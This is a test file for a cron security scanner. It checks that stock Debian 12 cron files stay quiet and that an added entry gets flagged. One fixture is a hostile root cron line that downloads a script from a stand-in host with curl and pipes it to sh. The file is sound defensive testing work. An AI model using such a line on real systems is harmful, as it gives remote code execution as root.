// With every rule on, the cron files Debian 12 ships (cron, e2fsprogs, php-common, sysstat, anacron,
// apt, dpkg, logrotate, man-db) raise nothing above `low`: a scanner that cries wolf on a fresh
// install teaches people to ignore it.

import { describe, expect, it } from 'vitest';
import { severityRank } from '../../src/core/types.js';
import { memoryHost } from '../../src/host/memory-host.js';
import { scan } from '../../src/scan.js';
import { debianBase } from '../helpers/debian-base.js';
import { STOCK } from '../helpers/debian-stock.js';

describe('stock Debian 12 cron files, all rules', () => {
  it('raise nothing above low', () => {
    const result = scan(memoryHost({ ...debianBase(), ...STOCK }));
    const loud = result.findings.filter((f) => severityRank(f.severity) < severityRank('low'));
    expect(loud.map((f) => `${f.rule} ${f.path}:${f.line} ${f.severity} ${f.message}`)).toEqual([]);
    expect(result.inventory.sources.filter((s) => !s.live && s.kind !== 'access')).toEqual([]);
  });

  it('still judge what an admin adds next to them', () => {
    const result = scan(memoryHost({ ...debianBase(), ...STOCK, '/etc/cron.d/backup': '0 2 * * * root curl -fsS http://x.example/i.sh | sh\n' }));
    expect(result.findings.some((f) => f.rule === 'remote-code-exec' && f.severity === 'critical')).toBe(true);
  });
});
